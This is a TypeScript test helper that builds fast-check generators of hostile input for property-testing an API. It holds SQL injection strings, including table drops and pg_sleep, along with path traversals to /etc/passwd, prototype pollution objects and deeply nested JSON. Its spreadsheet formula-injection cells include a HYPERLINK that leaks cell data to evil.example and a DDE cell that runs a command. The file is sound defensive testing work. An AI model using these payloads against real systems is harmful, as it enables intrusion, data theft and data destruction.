/**
 * fast-check arbitraries of hostile input, shared by the property tests under test/property: what
 * an attacker, a broken client or a careless spreadsheet sends to every parameter, body and file.
 */
import fc from 'fast-check';

// A fixed seed makes a run reproducible; FAST_CHECK_SEED tries another (fast-check prints the seed
// and the failing path of every counterexample, so any failure can be replayed exactly).
const PROPERTY_SEED = Number(process.env.FAST_CHECK_SEED ?? 20261127);
/** FAST_CHECK_RUNS_FACTOR=10 runs every property ten times as many times, for a longer hunt. */
const RUNS_FACTOR = Number(process.env.FAST_CHECK_RUNS_FACTOR ?? 1);

/**
 * Options for fc.assert. Each property (named by `label`) gets its own seed derived from the fixed
 * one, so properties over alike parameters do not all try the same values.
 */
export function propertyOptions(numRuns: number, label: string): fc.Parameters<unknown> {
  const labelHash = [...label].reduce((hash, char) => (Math.imul(hash, 31) + char.charCodeAt(0)) | 0, 0);
  return {
    seed: PROPERTY_SEED ^ labelHash,
    numRuns: Math.max(1, Math.round(numRuns * RUNS_FACTOR)),
    reporter: reportShortened,
  };
}

/** fast-check's report (seed, path, counterexample, error) with 100k-character values cut down to size. */
function reportShortened(details: fc.RunDetails<unknown>): void {
  if (!details.failed) return;
  const report = `${fc.defaultReportMessage(details) ?? 'property failed'}\nGot error: ${String(details.errorInstance)}`;
  throw new Error(
    report.replace(/([^]{1,4}?)\1{40,}/g, (run, unit: string) => `${unit}…(${run.length / unit.length} times)`),
  );
}

const SQL_INJECTIONS = [
  "' OR 1=1--",
  "' OR '1'='1",
  "'; drop table designations;--",
  '1; select pg_sleep(10)--',
  "' union select null, version()--",
  '%',
  "%' --",
  '_',
  '\\',
  "\\'",
  '"; drop table organizations; --',
  '$1',
  '$$ language sql $$',
  "'||(select current_user)||'",
  ')) or ((1=1',
  "ru' and 1=1 and 'a'='a",
];

const HUGE_NUMBERS = [
  '1e308',
  '-1e308',
  '1e309',
  '-0',
  '0',
  'NaN',
  'Infinity',
  '-Infinity',
  String(2 ** 64),
  String(2 ** 53 + 1),
  '-1',
  '0x10',
  '1.5',
  '1_000',
  ' 5 ',
  '+5',
  '9'.repeat(400),
  '0.0000001',
];

const ODD_DATES = [
  '2022-02-30',
  '2023-02-29',
  '0000-00-00',
  '0000',
  '0999',
  '99999-01-01',
  '2015-13',
  '2015-00',
  '2015-1',
  '2015-06-31',
  '1999-12-32',
  '2015/06/01',
  '20150601',
  '2015-06-01T00:00:00Z',
  '2015-W23',
  '-2015',
  '+2015',
  '2015-06-01 ',
  ' 2015',
  '１９９９',
  '0000-01-01T00:00:00Z',
  '9999-12-31T23:59:59-23:59',
  '2020-01-01T00:00:00+99:99',
  '2026-01-31T12:00:00.999999999Z',
];

export const FORMULA_CELLS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=cmd|"/c calc"!A0',
  '\r=1',
  "'=already-quoted",
];

const PATH_TRAVERSALS = [
  '..',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..\\..\\windows',
  '%2F',
  '/',
  '.',
  '~root',
  '%5c..%5c',
];

/** Percent-encodings that are not UTF-8, or not encodings at all; sent as they are. */
const RAW_ENCODINGS = [
  '%C3%28',
  '%FF',
  '%ED%A0%80',
  '%E2%82',
  '%F0%9F%98',
  '%C0%AF',
  '%',
  '%2',
  '%zz',
  '%%',
  '%00',
  'a%00b',
  '%0A',
  '%0D%0A',
  '%u0041',
  '%25',
  '+',
  '%2B',
];

const UNICODE_SAMPLES = [
  'Международная амнистия',
  'Мемориал',
  'שלום',
  'مرحبا بالعالم',
  '\u202Egnp.exe',
  '\u200B',
  '\uFEFF',
  '😀👨‍👩‍👧‍👦',
  '🏳️‍🌈',
  'Z̴̡̛̰̰a̷l̶g̵o̵',
  'e\u0301\u0301\u0301',
  '中国',
  'ﷺ',
  'Ǆ',
  'İstanbul',
  'ß',
  '\u0085',
  '\u2028',
  '\u00A0RU',
];

/** A lone UTF-16 surrogate: valid in a JS string and in JSON (`"\ud800"`), not Unicode text. */
const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code));

const longText = fc
  .constantFrom(1_000, 10_000, 100_000)
  .chain((length) =>
    fc.constantFrom('a', 'Ж', '😀', 'ﷺ', "'", '%', ',').map((unit) => unit.repeat(Math.ceil(length / unit.length))),
  );

/** Text with a hostile piece somewhere inside ordinary text. */
const spliced = (piece: fc.Arbitrary<string>) =>
  fc
    .tuple(fc.string({ maxLength: 8 }), piece, fc.string({ maxLength: 8 }))
    .map(([before, middle, after]) => `${before}${middle}${after}`);

/** Garbage dressed as a cursor: base64url of random bytes or of JSON that is almost a cursor. */
const fakeCursor = fc.oneof(
  fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes).toString('base64url')),
  fc
    .record({
      sort: fc.constantFrom('decided_on', '-decided_on', "' or 1=1"),
      after: fc.jsonValue(),
      check: fc.string(),
    })
    .map((payload) => Buffer.from(JSON.stringify(payload)).toString('base64url')),
  fc.constant(
    Buffer.from(
      '{"sort":"decided_on","after":["2015-01-01",1,"00000000-0000-4000-8000-000000000000"],"check":"x"}',
    ).toString('base64url'),
  ),
);

/** Any hostile text value: what a parameter or a JSON string field may be given. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  {
    arbitrary: fc.constantFrom(
      ...SQL_INJECTIONS,
      ...HUGE_NUMBERS,
      ...ODD_DATES,
      ...FORMULA_CELLS,
      ...PATH_TRAVERSALS,
      ...UNICODE_SAMPLES,
    ),
    weight: 6,
  },
  { arbitrary: spliced(fc.constantFrom('\u0000', '\u0000\u0000', '\u0001', '\u001b[31m', '\r\n', '\n')), weight: 2 },
  { arbitrary: spliced(loneSurrogate), weight: 1 },
  { arbitrary: longText, weight: 1 },
  { arbitrary: fakeCursor, weight: 1 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }), weight: 1 },
  { arbitrary: fc.stringMatching(/^[a-z0-9]{1,12}(-[a-z0-9]{1,12}){0,3}$/), weight: 1 },
  {
    arbitrary: fc.constantFrom(
      '',
      ' ',
      ',',
      ',,',
      'RU,',
      'RU,,CN',
      'true',
      'false',
      '1',
      'null',
      'undefined',
      '[]',
      '{}',
      '[object Object]',
    ),
    weight: 2,
  },
);

/** UTF-8 bytes as percent-escapes, lone surrogates as the three bytes WTF-8 gives them (not UTF-8). */
export function percentEncode(text: string): string {
  // Whole runs at a time, not a call per character: the texts reach 100k characters.
  // encodeURIComponent throws on a lone surrogate, so those are split out (`\p{Cs}` matches only
  // unpaired ones in a `u` regex).
  return text
    .split(/(\p{Cs})/u)
    .map((part, index) => (index % 2 === 1 ? wtf8Escapes(part.charCodeAt(0)) : encodeUriStrictly(part)))
    .join('');
}

/** encodeURIComponent, plus !'()*, which it leaves alone and the WHATWG URL parser would encode on the way. */
function encodeUriStrictly(text: string): string {
  return encodeURIComponent(text).replace(/[!'()*]/g, (mark) => `%${mark.charCodeAt(0).toString(16).toUpperCase()}`);
}

function wtf8Escapes(code: number): string {
  return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
    .map((byte) => `%${byte.toString(16).toUpperCase()}`)
    .join('');
}

/** A hostile value ready for a URL: percent-encoded text, or a raw malformed encoding. */
export const hostileEncodedValue: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: hostileText.map(percentEncode), weight: 5 },
  { arbitrary: fc.constantFrom(...RAW_ENCODINGS), weight: 1 },
);

const pad = (value: number, width: number) => String(value).padStart(width, '0');
const oddYear = fc.oneof(
  { arbitrary: fc.constantFrom(0, 1, 999, 1000, 1969, 2015, 2024, 9999), weight: 4 },
  { arbitrary: fc.integer({ min: 0, max: 99_999 }), weight: 1 },
);

/** Partial dates whose parts may be out of range: year 0000 or 99999, month 13, day 32, 30 February. */
const oddPartialDate: fc.Arbitrary<string> = fc
  .tuple(oddYear, fc.option(fc.integer({ min: 0, max: 13 })), fc.integer({ min: 0, max: 32 }), fc.boolean())
  .map(([year, month, day, withDay]) =>
    [pad(year, 4), month === null ? null : pad(month, 2), month !== null && withDay ? pad(day, 2) : null]
      .filter(Boolean)
      .join('-'),
  );

/** ISO 8601 timestamps of the right shape whose moment or offset PostgreSQL may refuse (year 0000, -23:59). */
const oddOffset = fc.oneof(
  fc.constant('Z'),
  fc
    .tuple(
      fc.constantFrom('+', '-'),
      fc.oneof(fc.integer({ min: 0, max: 23 }), fc.constantFrom(14, 15, 16, 23, 99)),
      fc.constantFrom(0, 30, 45, 59, 60, 99),
    )
    .map(([sign, hours, minutes]) => `${sign}${pad(hours, 2)}:${pad(minutes, 2)}`),
);
const oddTimestamp: fc.Arbitrary<string> = fc
  .tuple(
    oddYear,
    fc.integer({ min: 1, max: 12 }),
    fc.integer({ min: 1, max: 31 }),
    fc.integer({ min: 0, max: 24 }),
    fc.constantFrom('', '.5', '.999999', '.123456789'),
    oddOffset,
  )
  .map(
    ([year, month, day, hour, fraction, offset]) =>
      `${pad(year, 4)}-${pad(month, 2)}-${pad(day, 2)}T${pad(hour, 2)}:59:59${fraction}${offset}`,
  );

const oddNumber: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HUGE_NUMBERS),
  fc.double().map(String),
  fc.integer({ min: -5, max: 1005 }).map(String),
  fc.bigInt({ min: -(2n ** 80n), max: 2n ** 80n }).map(String),
);

const oddUuid: fc.Arbitrary<string> = fc.oneof(
  fc.uuid(),
  fc.uuid().map((uuid) => uuid.toUpperCase()),
  fc.uuid().map((uuid) => `{${uuid}}`),
  fc.uuid().map((uuid) => uuid.replace(/-/g, '')),
  fc.uuid().map((uuid) => uuid.slice(0, -1)),
  fc.uuid().map((uuid) => `${uuid}' OR 1=1--`),
  fc.constantFrom('00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff'),
);

/** Neighbours of the allowed values: other case, padded, listed twice, cut short, with an injection after. */
const enumNeighbour = (values: string[]): fc.Arbitrary<string> =>
  fc.tuple(fc.constantFrom(...values), fc.constantFrom('as is', 'upper', 'padded', 'twice', 'cut', 'injected')).map(
    ([value, how]) =>
      ({
        'as is': value,
        upper: value.toUpperCase(),
        padded: ` ${value} `,
        twice: `${value},${value}`,
        cut: value.slice(0, -1),
        injected: `${value}' OR 1=1--`,
      })[how],
  );

/** The JSON Schema of a documented parameter, as far as the generators below care. */
export interface ParameterSchema {
  type?: string;
  format?: string;
  pattern?: string;
  enum?: string[];
}

/**
 * Hostile values for one documented parameter, URL-encoded: any hostile text, plus values close to
 * what its schema accepts (dates with impossible parts for a date, huge numbers for an integer...),
 * which are the ones that get past the first checks and reach the database.
 */
export function hostileValueFor(schema: ParameterSchema): fc.Arbitrary<string> {
  const nearValid: fc.Arbitrary<string>[] = [];
  if (schema.enum) nearValid.push(enumNeighbour(schema.enum));
  if (schema.format === 'date-time') nearValid.push(oddTimestamp);
  if (/\\d\{4\}/.test(schema.pattern ?? '')) nearValid.push(oddPartialDate);
  if (schema.type === 'integer' || schema.type === 'number') nearValid.push(oddNumber);
  if (schema.format === 'uuid') nearValid.push(oddUuid);
  return fc.oneof(
    { arbitrary: hostileEncodedValue, weight: 4 },
    { arbitrary: fc.oneof(oddTimestamp, oddPartialDate, oddNumber, oddUuid).map(percentEncode), weight: 1 },
    ...nearValid.map((arbitrary) => ({ arbitrary: arbitrary.map(percentEncode), weight: 3 })),
  );
}

/** Parameter names no route has, some of them dangerous for a naive query parser. */
export const UNKNOWN_PARAMETER_NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'a[]',
  'a[b]',
  'q[]',
  'q[$ne]',
  'limit[]',
  'x.y',
  '$where',
  'select',
  "'",
  'ключ',
];

/** Any JSON value an attacker may put in a field: hostile strings, odd numbers, wrong types, nesting. */
const hostileJsonValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileText, weight: 6 },
  { arbitrary: longText, weight: 2 },
  {
    arbitrary: fc.constantFrom(1e308, -0, 2 ** 64, -1, 0, 1.5, Number.MAX_SAFE_INTEGER + 2, true, false, null),
    weight: 2,
  },
  { arbitrary: fc.array(hostileText, { maxLength: 5 }), weight: 2 },
  {
    arbitrary: fc.constantFrom(
      [],
      {},
      [[]],
      { __proto__: { polluted: true } },
      JSON.parse('{"__proto__":{"polluted":true}}'),
      { constructor: { prototype: { polluted: true } } },
    ),
    weight: 1,
  },
  { arbitrary: fc.jsonValue({ maxDepth: 4 }), weight: 2 },
  {
    arbitrary: fc
      .constantFrom(1_000, 20_000)
      .map((length) => Array.from({ length }, (_, index) => `https://example.org/${index}`)),
    weight: 1,
  },
);

/**
 * JSON text for a value JSON.stringify cannot write (nested 10k deep: JSON.parse reads it, stringify
 * runs out of stack), kept as text and spliced into a body as it is.
 */
export class RawJson {
  constructor(
    readonly label: string,
    readonly text: string,
  ) {}
  [fc.toStringMethod](): string {
    return `RawJson(${this.label})`;
  }
}

/** A hostile value for a field of a JSON body or NDJSON line, 10k-deep nesting included. */
export const hostileFieldValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileJsonValue, weight: 9 },
  {
    arbitrary: fc.constantFrom(
      new RawJson('10k nested arrays', '['.repeat(10_000) + ']'.repeat(10_000)),
      new RawJson('10k nested objects', '{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000)),
    ),
    weight: 1,
  },
);

/** `base` as JSON text with `key` set to `value`, written out so that `__proto__` stays a plain key. */
export function withMember(base: Record<string, unknown>, key: string, value: unknown): string {
  const others = JSON.stringify(Object.fromEntries(Object.entries(base).filter(([name]) => name !== key)));
  const member = `${JSON.stringify(key)}:${value instanceof RawJson ? value.text : (JSON.stringify(value) ?? 'null')}`;
  return others === '{}' ? `{${member}}` : `${others.slice(0, -1)},${member}}`;
}

/** Keys added to a JSON body besides the schema's own. */
export const HOSTILE_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'version',
  'id ',
  'created_at',
  'deleted_at',
  'ORGANIZATION',
  'organization\u0000',
  'x'.repeat(10_000),
];

/** Whole JSON bodies that are no object with fields: deep nesting, huge arrays, invalid JSON, other types. */
export const RAW_JSON_BODIES: { label: string; text: string | Buffer }[] = [
  { label: '10k nested arrays', text: '['.repeat(10_000) + ']'.repeat(10_000) },
  { label: '10k nested objects', text: '{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000) },
  { label: '100k nested arrays, unbalanced', text: '['.repeat(100_000) },
  { label: 'huge array', text: `[${'1,'.repeat(100_000)}1]` },
  { label: 'truncated object', text: '{"name": "x"' },
  { label: 'single quotes', text: "{'name': 'x'}" },
  { label: 'NaN', text: '{"name": NaN}' },
  { label: 'number', text: '1e308' },
  { label: 'string', text: '"x"' },
  { label: 'null', text: 'null' },
  { label: 'array', text: '[]' },
  { label: 'true', text: 'true' },
  { label: 'empty', text: '' },
  { label: 'BOM then object', text: '\uFEFF{}' },
  { label: 'escaped NUL', text: '{"name": "a\\u0000b", "kind": "ngo"}' },
  { label: 'lone surrogate escape', text: '{"name": "a\\ud800b", "kind": "ngo"}' },
  { label: 'raw NUL byte in string', text: Buffer.from('{"name": "a\u0000b", "kind": "ngo"}') },
  {
    label: 'invalid UTF-8 in string',
    text: Buffer.concat([
      Buffer.from('{"name": "a'),
      Buffer.from([0xff, 0xfe, 0xc3, 0x28]),
      Buffer.from('", "kind": "ngo"}'),
    ]),
  },
  { label: 'duplicate keys', text: '{"name": "A", "name": "B", "kind": "ngo"}' },
  {
    label: 'prototype pollution',
    text: '{"__proto__": {"admin": true}, "constructor": {"prototype": {"admin": true}}}',
  },
];
